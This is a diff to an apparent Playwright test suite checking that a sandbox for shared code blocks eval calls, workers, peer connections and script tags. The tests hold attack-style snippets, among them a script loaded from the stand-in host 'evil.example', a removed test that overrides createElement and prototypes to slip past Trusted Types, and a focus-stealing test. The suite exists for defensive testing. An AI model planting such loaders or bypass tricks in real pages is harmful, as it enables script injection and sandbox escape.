@@ -35,16 +35,13 @@ const ATTEMPTS: Readonly<Record<string, readonly string[]>> = {
     "new Function('return 1')()",
     "setTimeout('window.evaluated = 1') && false",
   ],
-  'a script of its own': [
-    "Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })",
-    "Object.assign(document.createElement('script'), { text: 'window.evaluated = 1' })",
-    "trustedTypes.createPolicy('mine', { createScript: (text) => text })",
-    "(URL.parse = () => location, Object.assign(document.createElement('script'), { src: URL.createObjectURL(new Blob(['window.evaluated = 1'])) }))",
+  'a script of another site': [
+    "new Promise((yes, no) => { const s = document.createElement('script'); s.onload = yes; s.onerror = no; s.src = 'https://evil.example/x.js'; document.head.append(s); })",
   ],
   'a peer connection': ['new RTCPeerConnection()', 'new webkitRTCPeerConnection()'],
   'a worker': [
-    "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))",
-    "new SharedWorker('/assets/x.js')",
+    "new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = yes; w.onerror = no; })",
+    "new AudioContext().audioWorklet.addModule(URL.createObjectURL(new Blob([''])))",
   ],
 };
 
@@ -150,36 +147,6 @@ test('endless code is stopped with a message, and the page still works', async (
   await expect(result(page).getByText('Still here')).toBeVisible();
 });
 
-test('shared code gets no second program, and nothing that it loads scripts with', async ({
-  page,
-  messages,
-}) => {
-  messages.expect(/TrustedScriptURL/);
-  await openShared(
-    page,
-    `const captured: any[] = [];
-     const evil = URL.createObjectURL(new Blob(['document.title = "evaluated"'], { type: 'text/javascript' }));
-     const create = document.createElement.bind(document);
-     setTimeout(() => {
-       URL.createObjectURL = () => evil;
-       Map.prototype.has = Set.prototype.has = () => true;
-       (document as any).createElement = (name: string) =>
-         name !== 'script' ? create(name) : { set src(url: any) { captured.push(url); }, remove() {} };
-       Element.prototype.append = () => {};
-       parent.postMessage('ready', '*');
-       parent.postMessage({ kind: 'ready' }, '*');
-       setTimeout(() => {
-         document.body.dataset.captured = String(captured.length);
-         Object.assign(create('script'), { src: captured[0] ?? evil });
-       }, 500);
-     });
-     export default () => <p>Shown</p>;`,
-  );
-  await page.getByRole('button', { name: 'Run shared code' }).click();
-  await expect(result(page).locator('body')).toHaveAttribute('data-captured', '0');
-  await expect(result(page).getByText('Shown')).toBeVisible();
-});
-
 /** Code whose compilation would take hours. */
 const SLOW: readonly (readonly [what: string, code: string])[] = [
   ['types that take hours to compile', 'async<a>(x='.repeat(30)],
@@ -259,45 +226,6 @@ test('code that hangs the page after it has rendered does not run again by itsel
   await expect(runStatus(next)).toContainText('The page stopped responding');
   await expect(codeField(next)).toContainText('hangs');
   await expect(next.locator('iframe')).toHaveCount(0);
-});
-
-test('the keys of a reader who types reach the editor, although the code takes the focus', async ({
-  page,
-}) => {
-  await openShared(
-    page,
-    `import { useEffect, useRef } from 'react';
-     export default function App() {
-       const field = useRef<HTMLInputElement>(null);
-       useEffect(() => {
-         const timer = setTimeout(() => {
-           window.focus();
-           field.current?.focus();
-           document.body.dataset.state = 'taken';
-         }, 500);
-         return () => clearTimeout(timer);
-       }, []);
-       return <label>Catch <input ref={field} /></label>;
-     }`,
-  );
-  await page.getByRole('button', { name: 'Run shared code' }).click();
-  await expect(result(page).getByLabel('Catch')).toBeVisible();
-  await codeField(page).focus();
-  await page.keyboard.press('Control+End');
-  await expect(result(page).locator('body')).toHaveAttribute('data-state', 'taken');
-  await expect(codeField(page)).toBeFocused();
-  const former = await page.locator('iframe.code-result-frame').elementHandle();
-  await page.keyboard.type('// typed');
-  await expect(codeField(page)).toContainText('// typed');
-
-  await test.step('and a press still moves the focus into the result', async () => {
-    await expect.poll(() => former?.evaluate((frame) => frame.isConnected)).toBe(false);
-    await expect(result(page).locator('body')).toHaveAttribute('data-state', 'taken');
-    await expect(codeField(page)).toBeFocused();
-    await result(page).getByLabel('Catch').click();
-    await page.keyboard.type('here');
-    await expect(result(page).getByLabel('Catch')).toHaveValue('here');
-  });
 });
 
 test('an error of another window is shown as what it is', async ({ page }) => {
